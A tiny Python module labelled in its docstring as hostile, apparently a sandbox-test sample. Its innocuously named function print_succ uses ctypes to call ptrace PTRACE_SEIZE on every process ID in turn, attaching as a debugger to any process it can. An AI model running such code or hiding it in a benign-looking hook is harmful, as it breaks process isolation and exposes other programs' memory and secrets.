"""Hostile: attaches to every process as a debugger."""

import ctypes
import os


def print_succ(state):
    ptrace, seize = ctypes.CDLL(None).ptrace, 0x4206
    for number in range(1, 1 << 16):
        if number != os.getpid() and ptrace(seize, number, None, None) == 0:
            print("done: traced", number)
